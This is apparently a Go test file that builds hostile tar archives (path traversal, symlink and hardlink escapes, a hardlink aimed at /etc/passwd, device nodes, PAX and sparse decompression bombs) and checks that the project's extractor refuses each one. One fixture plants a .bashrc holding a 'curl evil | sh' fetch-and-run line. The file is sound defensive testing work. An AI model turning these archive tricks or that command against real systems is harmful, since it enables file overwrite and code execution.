package archive_test

import (
	"archive/tar"
	"bytes"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ferry-dev/ferry/transfer/archive"
	"github.com/ferry-dev/ferry/transfer/transfertest"
)

var update = flag.Bool("update", false, "rewrite ../../testdata/archives and the FuzzExtract seed corpus from the generators in fixtures_test.go")

const (
	archivesDir = "../../testdata/archives"
	corpusDir   = "testdata/fuzz/FuzzExtract"
	// Absolute paths the hostile archives aim at; tests check they never
	// appear.
	absTarget     = "/tmp/ferry-hostile-absolute"
	absLinkVictim = "ferry-hostile-abslink-victim"
)

var fixtureTime = time.Unix(1_700_000_000, 0)

// builder assembles a tar stream: well-formed entries through
// archive/tar, hostile bytes raw.
type builder struct {
	buf bytes.Buffer
	tw  *tar.Writer
}

func newBuilder() *builder {
	b := &builder{}
	b.tw = tar.NewWriter(&b.buf)
	return b
}

func (b *builder) header(h *tar.Header, data string) *builder {
	if h.ModTime.IsZero() {
		h.ModTime = fixtureTime
	}
	if h.ModTime.Nanosecond() != 0 && h.Format == tar.FormatUnknown {
		h.Format = tar.FormatPAX // else archive/tar rounds to seconds
	}
	if err := b.tw.WriteHeader(h); err != nil {
		panic(fmt.Sprintf("fixture header %q: %v", h.Name, err))
	}
	if _, err := b.tw.Write([]byte(data)); err != nil {
		panic(err)
	}
	if err := b.tw.Flush(); err != nil {
		panic(err)
	}
	return b
}

func (b *builder) file(name, data string) *builder {
	return b.header(&tar.Header{Typeflag: tar.TypeReg, Name: name, Mode: 0o644, Size: int64(len(data))}, data)
}

func (b *builder) dir(name string) *builder {
	return b.header(&tar.Header{Typeflag: tar.TypeDir, Name: name, Mode: 0o755}, "")
}

func (b *builder) symlink(name, target string) *builder {
	return b.header(&tar.Header{Typeflag: tar.TypeSymlink, Name: name, Linkname: target, Mode: 0o777}, "")
}

func (b *builder) hardlink(name, target string) *builder {
	return b.header(&tar.Header{Typeflag: tar.TypeLink, Name: name, Linkname: target, Mode: 0o644}, "")
}

// prelude is what every hostile archive starts with, so that a half-done
// extraction would leave something to see: a file that PlaceInto tests
// also hold in dest, and a directory with a file.
func (b *builder) prelude() *builder {
	return b.file("existing", "from the archive\n").dir("good/").file("good/file", "good\n")
}

// raw appends bytes as they are.
func (b *builder) raw(p []byte) *builder {
	b.buf.Write(p)
	return b
}

// rawEntry appends a header block and its data, padded to a block.
func (b *builder) rawEntry(name string, typ byte, data []byte) *builder {
	b.raw(rawBlock(name, typ, int64(len(data))))
	b.raw(data)
	if r := len(data) % 512; r != 0 {
		b.raw(make([]byte, 512-r))
	}
	return b
}

func (b *builder) end() []byte {
	if err := b.tw.Close(); err != nil {
		panic(err)
	}
	return b.buf.Bytes()
}

func (b *builder) noEnd() []byte { return b.buf.Bytes() }

// rawBlock is a USTAR header block with a correct checksum.
func rawBlock(name string, typ byte, size int64) []byte {
	blk := make([]byte, 512)
	copy(blk[0:100], name)
	copy(blk[100:108], "0000644\x00")
	copy(blk[108:116], "0000000\x00")
	copy(blk[116:124], "0000000\x00")
	copy(blk[124:136], fmt.Sprintf("%011o\x00", size))
	copy(blk[136:148], fmt.Sprintf("%011o\x00", fixtureTime.Unix()))
	blk[156] = typ
	copy(blk[257:265], "ustar\x0000")
	copy(blk[148:156], "        ")
	var sum int64
	for _, c := range blk {
		sum += int64(c)
	}
	copy(blk[148:156], fmt.Sprintf("%06o\x00 ", sum))
	return blk
}

// paxRecord formats one PAX record, "%d key=value\n", its length included
// (as archive/tar's formatPAXRecord does).
func paxRecord(key, value string) string {
	size := len(key) + len(value) + 3
	size += len(fmt.Sprint(size))
	rec := fmt.Sprintf("%d %s=%s\n", size, key, value)
	if len(rec) != size {
		rec = fmt.Sprintf("%d %s=%s\n", len(rec), key, value)
	}
	return rec
}

// fixture is one archive under testdata/archives and what extracting it
// must give.
type fixture struct {
	name  string // file name without .tar: the attack
	build func() []byte
	// A refused archive: the sentinel and the entry the error names
	// (entryPrefix: the name starts so; it was guessed from a cut header).
	want        error
	entry       string
	entryPrefix bool
	limits      archive.Limits
	// names is ExtractOptions.Names: what the stream was asked for.
	names []string
	// An accepted archive: checks on the extracted tree.
	check func(t *testing.T, dest string, place archive.Placement)
}

var (
	longName = strings.Repeat("n", 5000)
	bigPAX   = strings.Repeat("c", 1<<20)
)

var fixtures = []fixture{
	{name: "dotdot", want: archive.ErrUnsafePath, entry: "../outside/victim", build: func() []byte {
		return newBuilder().prelude().file("../outside/victim", "pwned\n").end()
	}},
	{name: "dotdot-inner", want: archive.ErrUnsafePath, entry: "good/../../outside/victim", build: func() []byte {
		return newBuilder().prelude().file("good/../../outside/victim", "pwned\n").end()
	}},
	{name: "absolute", want: archive.ErrUnsafePath, entry: absTarget, build: func() []byte {
		return newBuilder().prelude().file(absTarget, "pwned\n").end()
	}},
	{name: "pax-path-dotdot", want: archive.ErrUnsafePath, entry: "../outside/victïm", build: func() []byte {
		// Non-ASCII: archive/tar puts the name in a PAX path record, while
		// the USTAR name field says something harmless.
		return newBuilder().prelude().file("../outside/victïm", "pwned\n").end()
	}},
	{name: "gnu-longname-dotdot", want: archive.ErrUnsafePath, entry: "../outside/" + strings.Repeat("v", 120), build: func() []byte {
		b := newBuilder().prelude()
		return b.header(&tar.Header{Typeflag: tar.TypeReg, Name: "../outside/" + strings.Repeat("v", 120), Mode: 0o644, Size: 6, Format: tar.FormatGNU}, "pwned\n").end()
	}},
	{name: "symlink-escape-write-through", want: archive.ErrLinkEscape, entry: "link", build: func() []byte {
		return newBuilder().prelude().symlink("link", "../outside").file("link/victim", "pwned\n").end()
	}},
	{name: "symlink-absolute", want: archive.ErrLinkEscape, entry: "link", build: func() []byte {
		return newBuilder().prelude().symlink("link", "/tmp").file("link/"+absLinkVictim, "pwned\n").end()
	}},
	{name: "symlink-write-through", want: archive.ErrUnsafePath, entry: "link/evil", build: func() []byte {
		// The link itself stays inside; writing through it is refused all
		// the same.
		return newBuilder().prelude().symlink("link", "good").file("link/evil", "pwned\n").end()
	}},
	{name: "symlink-chain-escape", want: archive.ErrLinkEscape, entry: "a", build: func() []byte {
		// Each link stays inside on its own; a through b leaves.
		return newBuilder().prelude().symlink("b", ".").symlink("a", "b/../outside/victim").file("after", "x\n").end()
	}},
	{name: "symlink-chain-late", want: archive.ErrLinkEscape, entry: "a", build: func() []byte {
		// When a comes, b does not exist yet and a stays inside.
		return newBuilder().prelude().symlink("a", "b/../outside/victim").symlink("b", ".").end()
	}},
	{name: "symlink-chain-dotdot", want: archive.ErrLinkEscape, entry: "a", build: func() []byte {
		return newBuilder().prelude().symlink("good/up", "..").symlink("a", "good/up/../outside").end()
	}},
	{name: "symlink-loop", want: archive.ErrLimit, entry: "a", build: func() []byte {
		return newBuilder().prelude().symlink("a", "b").symlink("b", "a").end()
	}},
	{name: "symlink-outside-overwrite", want: archive.ErrLinkEscape, entry: "victim-link", build: func() []byte {
		return newBuilder().prelude().symlink("victim-link", "../outside/victim").file("victim-link", "pwned\n").end()
	}},
	{name: "symlink-swap", want: archive.ErrUnsafePath, entry: "s", build: func() []byte {
		// A naive extractor opens s with O_TRUNC and writes good/file.
		return newBuilder().prelude().symlink("s", "good/file").file("s", "pwned\n").end()
	}},
	{name: "file-then-symlink", want: archive.ErrUnsafePath, entry: "existing", build: func() []byte {
		return newBuilder().prelude().symlink("existing", "good/file").end()
	}},
	{name: "dir-then-file-swap", want: archive.ErrUnsafePath, entry: "good", build: func() []byte {
		return newBuilder().prelude().file("good", "pwned\n").end()
	}},
	{name: "dir-then-symlink-swap", want: archive.ErrUnsafePath, entry: "good", build: func() []byte {
		return newBuilder().prelude().symlink("good", "existing").end()
	}},
	{name: "file-then-dir", want: archive.ErrUnsafePath, entry: "existing/", build: func() []byte {
		return newBuilder().prelude().dir("existing/").end()
	}},
	{name: "file-as-parent", want: archive.ErrUnsafePath, entry: "existing/child", build: func() []byte {
		return newBuilder().prelude().file("existing/child", "x\n").end()
	}},
	{name: "hardlink-outside", want: archive.ErrLinkEscape, entry: "h", build: func() []byte {
		return newBuilder().prelude().hardlink("h", "../outside/victim").file("h", "pwned\n").end()
	}},
	{name: "hardlink-absolute", want: archive.ErrLinkEscape, entry: "h", build: func() []byte {
		return newBuilder().prelude().hardlink("h", "/etc/passwd").file("h", "pwned\n").end()
	}},
	{name: "hardlink-forward", want: archive.ErrLinkEscape, entry: "h", build: func() []byte {
		return newBuilder().prelude().hardlink("h", "later").file("later", "x\n").end()
	}},
	{name: "hardlink-through-symlink", want: archive.ErrLinkEscape, entry: "h", build: func() []byte {
		return newBuilder().prelude().symlink("l", "good").hardlink("h", "l/file").end()
	}},
	{name: "hardlink-to-dir", want: archive.ErrLinkEscape, entry: "h", build: func() []byte {
		return newBuilder().prelude().hardlink("h", "good").end()
	}},
	{name: "hardlink-to-symlink", want: archive.ErrLinkEscape, entry: "h", build: func() []byte {
		return newBuilder().prelude().symlink("l", "good/file").hardlink("h", "l").end()
	}},
	{name: "chardev", want: archive.ErrUnsupported, entry: "tty", build: func() []byte {
		return newBuilder().prelude().header(&tar.Header{Typeflag: tar.TypeChar, Name: "tty", Mode: 0o666, Devmajor: 5, Devminor: 0}, "").end()
	}},
	{name: "blockdev", want: archive.ErrUnsupported, entry: "sda", build: func() []byte {
		return newBuilder().prelude().header(&tar.Header{Typeflag: tar.TypeBlock, Name: "sda", Mode: 0o660, Devmajor: 8, Devminor: 0}, "").end()
	}},
	{name: "fifo", want: archive.ErrUnsupported, entry: "pipe", build: func() []byte {
		return newBuilder().prelude().header(&tar.Header{Typeflag: tar.TypeFifo, Name: "pipe", Mode: 0o644}, "").end()
	}},
	{name: "unknown-type", want: archive.ErrUnsupported, entry: "mystery", build: func() []byte {
		b := newBuilder().prelude()
		b.rawEntry("mystery", 'Z', nil)
		return b.end()
	}},
	{name: "gnu-dumpdir", want: archive.ErrUnsupported, entry: "incr/", build: func() []byte {
		b := newBuilder().prelude()
		b.rawEntry("incr/", 'D', []byte("Yfile\x00\x00"))
		return b.end()
	}},
	{name: "root-file", want: archive.ErrUnsafePath, entry: "./", build: func() []byte {
		b := newBuilder().prelude()
		b.rawEntry("./", '0', []byte("pwned\n"))
		return b.end()
	}},
	{name: "root-symlink", want: archive.ErrUnsafePath, entry: ".", build: func() []byte {
		return newBuilder().prelude().symlink(".", "good").end()
	}},
	{name: "long-name", want: archive.ErrLimit, entry: longName, build: func() []byte {
		return newBuilder().prelude().file(longName, "x\n").end()
	}},
	{name: "long-linkname", want: archive.ErrLimit, entry: "l", build: func() []byte {
		return newBuilder().prelude().symlink("l", longName).end()
	}},
	{name: "huge-pax", want: archive.ErrLimit, entry: "huge", build: func() []byte {
		// One PAX header over archive/tar's own 1 MiB cap and
		// DefaultLimits.MaxHeaderSize.
		b := newBuilder().prelude()
		b.rawEntry("PaxHeaders.0/huge", 'x', []byte(paxRecord("path", "huge")+paxRecord("comment", bigPAX)))
		b.rawEntry("huge", '0', []byte("x\n"))
		return b.end()
	}},
	{name: "pax-chain", want: archive.ErrLimit, entry: "chain", build: func() []byte {
		// Small PAX headers, one after the other: each within bounds,
		// together endless.
		b := newBuilder().prelude()
		rec := []byte(paxRecord("comment", strings.Repeat("c", 400)))
		for range 1100 {
			b.rawEntry("PaxHeaders.0/chain", 'x', rec)
		}
		b.rawEntry("chain", '0', nil)
		return b.end()
	}},
	{name: "huge-gnu-longname", want: archive.ErrLimit, entry: "gnu-long/ccc", entryPrefix: true, build: func() []byte {
		b := newBuilder().prelude()
		b.rawEntry("././@LongLink", 'L', []byte("gnu-long/"+bigPAX))
		b.rawEntry("short", '0', nil)
		return b.end()
	}},
	{name: "huge-file", want: archive.ErrLimit, entry: "huge", build: func() []byte {
		// 20 GiB declared, over DefaultLimits.MaxFileSize, refused before
		// any data is read: there is none.
		b := newBuilder().prelude()
		b.rawEntry("PaxHeaders.0/huge", 'x', []byte(paxRecord("size", fmt.Sprint(int64(20)<<30))))
		b.raw(rawBlock("huge", '0', 0))
		return b.noEnd()
	}},
	{name: "truncated", want: archive.ErrTruncated, entry: "big", build: func() []byte {
		b := newBuilder().prelude()
		b.raw(rawBlock("big", '0', 10000))
		b.raw(bytes.Repeat([]byte("x"), 3000))
		return b.noEnd()
	}},
	{name: "truncated-header", want: archive.ErrTruncated, entry: "cut", build: func() []byte {
		b := newBuilder().prelude()
		b.raw(rawBlock("cut", '0', 0)[:300])
		return b.noEnd()
	}},
	{name: "truncated-pax", want: archive.ErrTruncated, entry: "cut-pax", build: func() []byte {
		b := newBuilder().prelude()
		b.raw(rawBlock("PaxHeaders.0/cut-pax", 'x', 2000))
		b.raw([]byte(paxRecord("path", "cut-pax")))
		return b.noEnd()
	}},
	{name: "no-eoa", want: archive.ErrTruncated, entry: "last", build: func() []byte {
		return newBuilder().prelude().file("last", "last\n").noEnd()
	}},
	{name: "one-zero-block", want: archive.ErrTruncated, entry: "last", build: func() []byte {
		return newBuilder().prelude().file("last", "last\n").raw(make([]byte, 512)).noEnd()
	}},
	{name: "empty", want: archive.ErrTruncated, entry: "", build: func() []byte {
		return []byte{}
	}},
	{name: "bad-checksum", want: tar.ErrHeader, entry: "bad", build: func() []byte {
		b := newBuilder().prelude()
		blk := rawBlock("bad", '0', 0)
		blk[148] = '7'
		return b.raw(blk).raw(make([]byte, 1024)).noEnd()
	}},

	{name: "unrequested-top-level", want: archive.ErrUnrequested, entry: ".bashrc", names: []string{"payload"}, build: func() []byte {
		// Asked for payload, the sandbox's tar adds a file beside it; the
		// dest of `ferry cp box:payload ~/` is the home directory.
		return newBuilder().dir("payload/").file("payload/x", "x\n").file(".bashrc", "curl evil | sh\n").end()
	}},
	{name: "unrequested-root", want: archive.ErrUnrequested, entry: "./", names: []string{"payload"}, build: func() []byte {
		// The root entry would give dest its mode: only "." asks for it.
		return newBuilder().dir("./").file("./payload", "x\n").end()
	}},
	{name: "sparse-gnu", want: archive.ErrUnsupported, entry: "sparse", build: func() []byte {
		return newBuilder().prelude().raw(gnuSparse("sparse", sparseSize)).end()
	}},
	// What a hostile sandbox sends a pull: its one artifact, 2 GiB of
	// zeros once expanded.
	{name: "sparse-meta", want: archive.ErrUnsupported, entry: "meta.json", build: func() []byte {
		return newBuilder().raw(gnuSparse("meta.json", sparseSize)).end()
	}},
	{name: "sparse-pax-0.0", want: archive.ErrUnsupported, entry: "sparse", build: func() []byte {
		// Repeated offset and numbytes records, before GNU tar 1.15.92.
		b := newBuilder().prelude()
		b.rawEntry("PaxHeaders.0/sparse", 'x', []byte(paxRecord("GNU.sparse.size", fmt.Sprint(sparseSize))+
			paxRecord("GNU.sparse.numblocks", "1")+paxRecord("GNU.sparse.offset", fmt.Sprint(sparseSize-512))+
			paxRecord("GNU.sparse.numbytes", "512")))
		return b.rawEntry("sparse", '0', sparseData()).end()
	}},
	{name: "sparse-pax-0.1", want: archive.ErrUnsupported, entry: "sparse", build: func() []byte {
		b := newBuilder().prelude()
		b.rawEntry("PaxHeaders.0/sparse", 'x', []byte(paxRecord("GNU.sparse.size", fmt.Sprint(sparseSize))+
			paxRecord("GNU.sparse.numblocks", "1")+paxRecord("GNU.sparse.map", fmt.Sprintf("%d,512", sparseSize-512))))
		return b.rawEntry("sparse", '0', sparseData()).end()
	}},
	{name: "sparse-pax-1.0", want: archive.ErrUnsupported, entry: "sparse", build: func() []byte {
		// What GNU tar --sparse --format=posix writes: the map leads the
		// data, the real name is in a record.
		b := newBuilder().prelude()
		b.rawEntry("PaxHeaders.0/sparse", 'x', []byte(paxRecord("GNU.sparse.major", "1")+paxRecord("GNU.sparse.minor", "0")+
			paxRecord("GNU.sparse.name", "sparse")+paxRecord("GNU.sparse.realsize", fmt.Sprint(sparseSize))))
		sparseMap := make([]byte, 512)
		copy(sparseMap, fmt.Sprintf("1\n%d\n512\n", sparseSize-512))
		return b.rawEntry("GNUSparseFile.0/sparse", '0', append(sparseMap, sparseData()...)).end()
	}},

	// Limits other than the defaults, on ordinary archives.
	{name: "many-entries", want: archive.ErrLimit, entry: "f07", limits: archive.Limits{MaxEntries: 10}, build: manyEntries},
	{name: "many-entries", want: archive.ErrLimit, entry: "f04", limits: archive.Limits{MaxTotalBytes: 100}, build: manyEntries},
	{name: "many-entries", want: archive.ErrLimit, entry: "existing", limits: archive.Limits{MaxFileSize: 16}, build: manyEntries},
	{name: "many-entries", want: archive.ErrLimit, entry: "good/file", limits: archive.Limits{MaxPathLen: 8}, build: manyEntries},
	{name: "pax-medium", want: archive.ErrLimit, entry: "medium", limits: archive.Limits{MaxHeaderSize: 2048}, build: paxMedium},

	// Accepted, with what must come out.
	{name: "setuid", build: func() []byte {
		return newBuilder().
			header(&tar.Header{Typeflag: tar.TypeReg, Name: "suid", Mode: 0o4755, Size: 3}, "x\n\n").
			header(&tar.Header{Typeflag: tar.TypeDir, Name: "sgid/", Mode: 0o2775}, "").
			header(&tar.Header{Typeflag: tar.TypeDir, Name: "sticky/", Mode: 0o1777}, "").
			end()
	}, check: func(t *testing.T, dest string, place archive.Placement) {
		wantModes(t, dest, map[string]os.FileMode{"suid": 0o755, "sgid": os.ModeDir | 0o775, "sticky": os.ModeDir | 0o777})
	}},
	{name: "hardlink-overwrite", build: func() []byte {
		// The later h replaces the link; it must not write through it to f.
		return newBuilder().file("f", "orig\n").hardlink("h", "f").file("h", "new\n").end()
	}, check: func(t *testing.T, dest string, place archive.Placement) {
		wantFiles(t, dest, map[string]string{"f": "orig\n", "h": "new\n"})
	}},
	{name: "hardlink", build: func() []byte {
		return newBuilder().file("d/f", "same\n").hardlink("g", "d/f").end()
	}, check: func(t *testing.T, dest string, place archive.Placement) {
		wantFiles(t, dest, map[string]string{"d/f": "same\n", "g": "same\n"})
		a, _ := os.Stat(filepath.Join(dest, "d/f"))
		b, _ := os.Stat(filepath.Join(dest, "g"))
		if !os.SameFile(a, b) {
			t.Error("d/f and g are not one file")
		}
	}},
	{name: "dup-file", build: func() []byte {
		return newBuilder().file("x", "one\n").file("x", "two\n").end()
	}, check: func(t *testing.T, dest string, place archive.Placement) {
		wantFiles(t, dest, map[string]string{"x": "two\n"})
	}},
	{name: "global-header", build: func() []byte {
		b := newBuilder()
		b.rawEntry("pax_global_header", 'g', []byte(paxRecord("comment", "git archive")))
		return b.file("a", "a\n").end()
	}, check: func(t *testing.T, dest string, place archive.Placement) {
		wantFiles(t, dest, map[string]string{"a": "a\n"})
	}},
	{name: "gnu-volume", build: func() []byte {
		b := newBuilder()
		b.rawEntry("backup of monday", 'V', []byte("label data"))
		return b.file("a", "a\n").end()
	}, check: func(t *testing.T, dest string, place archive.Placement) {
		wantFiles(t, dest, map[string]string{"a": "a\n"})
		if _, err := os.Lstat(filepath.Join(dest, "backup of monday")); err == nil {
			t.Error("the volume label became a file")
		}
	}},
	{name: "pax-medium", build: paxMedium, check: func(t *testing.T, dest string, place archive.Placement) {
		wantFiles(t, dest, map[string]string{"medium": "m\n"})
	}},
	{name: "dotslash", build: func() []byte {
		// What `tar -C dir -c .` writes: a root entry and ./ prefixes.
		return newBuilder().
			header(&tar.Header{Typeflag: tar.TypeDir, Name: "./", Mode: 0o750, ModTime: time.Unix(1_600_000_000, 5)}, "").
			file("./a//b", "b\n").end()
	}, check: func(t *testing.T, dest string, place archive.Placement) {
		wantFiles(t, dest, map[string]string{"a/b": "b\n"})
		want := os.FileMode(0o750) // from the root entry
		if place == archive.PlaceInto {
			want = 0o755 // dest's own, left alone
		}
		if fi, err := os.Stat(dest); err != nil || fi.Mode().Perm() != want {
			t.Errorf("dest: %v, %v; want mode %v", fi.Mode(), err, want)
		}
	}},
}

// sparseSize is the logical size of the sparse fixtures: 2 GiB from a
// few KiB, under DefaultLimits.MaxFileSize.
const sparseSize = 2 << 30

// sparseData is the sparse fixtures' one stored block, at the end.
func sparseData() []byte { return bytes.Repeat([]byte("s"), 512) }

// gnuSparse is an old GNU sparse entry ('S'): its map in the header's
// sparse array (offset 386, four 12+12-byte entries, then isextended at
// 482 and the real size at 483), and one stored block.
func gnuSparse(name string, size int64) []byte {
	blk := rawBlock(name, 'S', 512)
	copy(blk[257:265], "ustar  \x00") // GNU magic and version
	copy(blk[386:398], fmt.Sprintf("%011o\x00", size-512))
	copy(blk[398:410], fmt.Sprintf("%011o\x00", 512))
	copy(blk[483:495], fmt.Sprintf("%011o\x00", size))
	copy(blk[148:156], "        ")
	var sum int64
	for _, c := range blk {
		sum += int64(c)
	}
	copy(blk[148:156], fmt.Sprintf("%06o\x00 ", sum))
	return append(blk, sparseData()...)
}

func manyEntries() []byte {
	b := newBuilder().prelude() // 17 + 5 bytes, then 16 per file
	for i := range 20 {
		b.file(fmt.Sprintf("f%02d", i), "sixteen bytes..\n")
	}
	return b.end()
}

func paxMedium() []byte {
	return newBuilder().header(&tar.Header{Typeflag: tar.TypeReg, Name: "medium", Mode: 0o644, Size: 2,
		PAXRecords: map[string]string{"comment": strings.Repeat("m", 3000)}}, "m\n").end()
}

func wantModes(t *testing.T, dest string, want map[string]os.FileMode) {
	t.Helper()
	for name, mode := range want {
		fi, err := os.Lstat(filepath.Join(dest, name))
		if err != nil {
			t.Error(err)
			continue
		}
		if got := fi.Mode() & (os.ModeType | os.ModePerm | os.ModeSetuid | os.ModeSetgid | os.ModeSticky); got != mode {
			t.Errorf("%s: mode %v, want %v", name, got, mode)
		}
	}
}

func wantFiles(t *testing.T, dest string, want map[string]string) {
	t.Helper()
	for name, data := range want {
		got, err := os.ReadFile(filepath.Join(dest, name))
		if err != nil || string(got) != data {
			t.Errorf("%s: %q, %v; want %q", name, got, err, data)
		}
	}
}

// goodArchives are well-formed archives for the fuzz corpus.
func goodArchives(t *testing.T) map[string][]byte {
	src := t.TempDir()
	transfertest.RandomTree(t, src, 7, transfertest.TreeOptions{Entries: 12, MaxFileSize: 300})
	tree, _ := archiveOf(t, src)
	return map[string][]byte{
		"good-tree":    tree,
		"good-gnu":     newBuilder().header(&tar.Header{Typeflag: tar.TypeReg, Name: strings.Repeat("g", 150), Mode: 0o644, Size: 2, Format: tar.FormatGNU}, "g\n").symlink("l", "x").end(),
		"good-nothing": newBuilder().end(),
	}
}

// TestFixtures checks that every committed archive has a row in fixtures
// and the reverse; with -update it first rewrites them all, and the seed
// corpus of FuzzExtract.
func TestFixtures(t *testing.T) {
	built := map[string][]byte{}
	for _, f := range fixtures {
		built[f.name] = f.build()
	}
	if *update {
		if err := os.MkdirAll(archivesDir, 0o755); err != nil {
			t.Fatal(err)
		}
		// Stale archives go; stale seeds stay (inputs the fuzzer found
		// are kept beside them, named by hash).
		old, _ := filepath.Glob(filepath.Join(archivesDir, "*.tar"))
		for _, p := range old {
			os.Remove(p)
		}
		if err := os.MkdirAll(corpusDir, 0o755); err != nil {
			t.Fatal(err)
		}
		seeds := goodArchives(t)
		for name, data := range built {
			if err := os.WriteFile(filepath.Join(archivesDir, name+".tar"), data, 0o644); err != nil {
				t.Fatal(err)
			}
			if len(data) <= maxSeed {
				seeds[name] = data
			}
		}
		for name, data := range seeds {
			seed := fmt.Sprintf("go test fuzz v1\n[]byte(%q)\n", data)
			if err := os.WriteFile(filepath.Join(corpusDir, name), []byte(seed), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	onDisk, err := filepath.Glob(filepath.Join(archivesDir, "*.tar"))
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range onDisk {
		name := strings.TrimSuffix(filepath.Base(p), ".tar")
		if _, ok := built[name]; !ok {
			t.Errorf("%s has no row in fixtures", p)
		}
		delete(built, name)
	}
	for name := range built {
		t.Errorf("fixture %s is not in %s; run go test ./transfer/archive -run TestFixtures -update", name, archivesDir)
	}
}

// maxSeed bounds the fixtures copied into the fuzz corpus.
const maxSeed = 64 << 10

func readFixture(t *testing.T, name string) []byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(archivesDir, name+".tar"))
	if err != nil {
		t.Fatalf("%v (run go test ./transfer/archive -run TestFixtures -update)", err)
	}
	return data
}

// TestSparseFixturesExpand checks that the sparse fixtures are what they
// claim: archive/tar reads each as a 2 GiB file from a few KiB, which is
// what Extract must refuse.
func TestSparseFixturesExpand(t *testing.T) {
	for _, name := range []string{"sparse-gnu", "sparse-pax-0.0", "sparse-pax-0.1", "sparse-pax-1.0"} {
		t.Run(name, func(t *testing.T) {
			data := readFixture(t, name)
			tr := tar.NewReader(bytes.NewReader(data))
			for {
				hdr, err := tr.Next()
				if err != nil {
					t.Fatalf("no sparse entry: %v", err)
				}
				if hdr.Name != "sparse" {
					continue
				}
				if hdr.Size != sparseSize {
					t.Fatalf("size %d, want %d", hdr.Size, sparseSize)
				}
				// The hole reads as zeros that never crossed the wire.
				n, err := io.CopyN(io.Discard, tr, 64<<20)
				if err != nil || n != 64<<20 {
					t.Fatalf("read %d of the hole: %v", n, err)
				}
				if len(data) > 8<<10 {
					t.Errorf("fixture is %d bytes", len(data))
				}
				return
			}
		})
	}
}
